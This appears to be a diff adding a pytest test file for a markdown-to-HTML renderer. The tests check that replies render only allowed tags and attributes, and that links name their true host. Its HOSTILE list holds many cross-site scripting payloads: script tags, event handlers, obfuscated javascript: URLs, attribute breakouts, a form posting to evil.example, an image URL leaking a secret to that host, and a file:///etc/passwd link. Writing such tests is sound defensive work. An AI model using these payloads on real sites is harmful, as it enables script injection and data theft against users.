@@ -1,0 +1,170 @@
+"""What a reply may put into the page, and that nothing hostile comes through."""
+
+from __future__ import annotations
+
+from html.parser import HTMLParser
+
+import pytest
+
+from halt.markdown import Document, render
+from tests.unit.markdown.corpus import TEXTS
+
+ALLOWED: dict[str, set[str]] = {
+    "p": {"dir"},
+    **{f"h{level}": {"dir"} for level in range(3, 7)},
+    **{tag: {"dir"} for tag in ("ul", "li", "blockquote")},
+    "ol": {"dir", "start"},
+    **{tag: {"dir", "class"} for tag in ("th", "td")},
+    **{tag: set() for tag in ("em", "strong", "s", "br", "hr", "table", "thead", "tbody", "tr")},
+    "pre": {"tabindex"},
+    "code": {"class", "data-tail"},
+    "a": {"href", "target", "rel", "title"},
+    "span": {"class", "data-src", "data-tail"},
+    "div": {"class", "tabindex", "role", "aria-label"},
+}
+
+HOSTILE = [
+    "<script>alert(1)</script>",
+    "<img src=x onerror=alert(1)>",
+    "<svg/onload=alert(1)>",
+    "<iframe src=https://evil.example></iframe>",
+    "<style>*{display:none}</style>",
+    '<a href="javascript:alert(1)">x</a>',
+    '<form action="https://evil.example"><input name=key></form>',
+    "<!--><script>alert(1)</script>-->",
+    "<![CDATA[<script>alert(1)</script>]]>",
+    "[x](javascript:alert(1))",
+    "[x](JaVaScRiPt:alert(1))",
+    "[x](java&#x0A;script:alert(1))",
+    "[x](&#106;avascript:alert(1))",
+    "[x](<java\tscript:alert(1)>)",
+    "[x](\x01javascript:alert(1))",
+    "[x](vbscript:msgbox)",
+    "[x](data:text/html,<script>alert(1)</script>)",
+    "[x](blob:https://evil.example/1)",
+    "[x](file:///etc/passwd)",
+    "[x](//evil.example)",
+    "[x](https:evil.example)",
+    "[x](https:///evil.example)",
+    "[x](https://[evil)",
+    "[x]: javascript:alert(1)\n\n[x]",
+    "<javascript:alert(1)>",
+    "![x](javascript:alert(1))",
+    "![x](data:image/svg+xml,<svg/onload=alert(1)>)",
+    "![x](https://evil.example/?q=secret)",
+    '![" onerror="alert(1)](https://evil.example/"onerror=alert(1))',
+    '[x](https://evil.example/"onmouseover="alert(1))',
+    "[x](https://evil.example '\" onclick=\"alert(1)')",
+    '```"><script>alert(1)</script>\nx\n```',
+    '```x" onload="y\n</code></pre><script>alert(1)</script>\n```',
+    "| <script>a</script> |\n|:--|\n| <img src=x> |",
+    "`<script>alert(1)</script>`",
+    "    <script>alert(1)</script>",
+    "# <script>alert(1)</script>",
+    "\0<script\0>alert(1)</script>",
+]
+
+
+class Inspector(HTMLParser):
+    """Fails at the first tag or attribute that a reply must not have."""
+
+    def __init__(self) -> None:
+        super().__init__()
+        self.hrefs: list[str] = []
+        self.text = ""
+
+    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
+        assert tag in ALLOWED, f"<{tag}> came through"
+        for name, value in attrs:
+            assert name in ALLOWED[tag], f"<{tag} {name}> came through"
+            if name in ("href", "data-src"):
+                assert value is not None
+                assert value.startswith(("https://", "http://", "mailto:"))
+                self.hrefs.append(value)
+
+    def handle_data(self, data: str) -> None:
+        self.text += data
+
+    def handle_comment(self, data: str) -> None:
+        pytest.fail("a comment came through")
+
+    def unknown_decl(self, data: str) -> None:
+        pytest.fail("a declaration came through")
+
+
+def inspect(html: str) -> Inspector:
+    inspector = Inspector()
+    inspector.feed(html)
+    inspector.close()
+    return inspector
+
+
+@pytest.mark.parametrize("text", [*HOSTILE, *TEXTS.values()])
+def test_only_known_tags_and_attributes(text: str) -> None:
+    inspect(render(text))
+
+
+@pytest.mark.parametrize("text", HOSTILE)
+def test_only_known_tags_and_attributes_in_every_patch(text: str) -> None:
+    written = Document()
+    for character in text:
+        patch = written.append(character)
+        inspect("".join(patch.settled) + (patch.open or ""))
+    inspect("".join(written.finish().settled))
+
+
+def test_raw_html_is_shown_as_text() -> None:
+    assert inspect(render("a <b>c</b>\n\n<script>d</script>")).text == "a <b>c</b>\n<script>d</script>\n"
+
+
+def test_a_link_opens_apart_and_names_its_true_host() -> None:
+    assert render("[bank.example](https://bank.example@evil.example/a 'bank.example')") == (
+        '<p dir="auto"><a href="https://bank.example@evil.example/a" target="_blank" rel="noopener noreferrer nofollow"'
+        ' title="evil.example">bank.example</a></p>\n'
+    )
+
+
+def test_a_host_in_another_script_is_named_in_ascii() -> None:
+    assert 'title="xn--' in render("[x](https://аррӏе.example)")
+
+
+@pytest.mark.parametrize(
+    "target", ["/settings", "#top", "page.html", "ftp://a.example", "javascript:alert(1)", "tel:1"]
+)
+def test_other_targets_stay_text(target: str) -> None:
+    assert render(f"[x]({target})") == f'<p dir="auto">[x]({target})</p>\n'
+
+
+def test_a_mail_address_is_a_link() -> None:
+    assert inspect(render("[x](mailto:a@b.example)")).hrefs == ["mailto:a@b.example"]
+
+
+def test_an_image_is_a_placeholder_that_names_its_host() -> None:
+    assert render("![a *cat*](https://i.example/c.png)") == (
+        '<p dir="auto"><span class="image" data-src="https://i.example/c.png">a cat (i.example)</span></p>\n'
+    )
+
+
+def test_headings_stay_below_the_pages_own() -> None:
+    html = render("# a\n## b\n### c\n#### d\n##### e\n###### f\n")
+    assert [html[at + 1 : at + 3] for at in range(len(html)) if html.startswith("<h", at)] == [
+        "h3",
+        "h4",
+        "h5",
+        "h6",
+        "h6",
+        "h6",
+    ]
+
+
+def test_code_names_its_language_and_takes_the_keyboard() -> None:
+    assert render("```c++ x\na\n```") == '<pre tabindex="0"><code class="language-c++">a\n</code></pre>\n'
+    assert render("```{.py}\na\n```") == '<pre tabindex="0"><code>a\n</code></pre>\n'
+    assert render("    a\n") == '<pre tabindex="0"><code>a\n</code></pre>\n'
+
+
+def test_a_table_is_a_region_and_aligns_by_class() -> None:
+    html = render("| a | b |\n|---|--:|\n| 1 | 2 |\n")
+    assert html.startswith('<div class="table" tabindex="0" role="region" aria-label="Table"><table>')
+    assert '<td dir="auto" class="align-right">2</td>' in html
+    assert "style" not in html
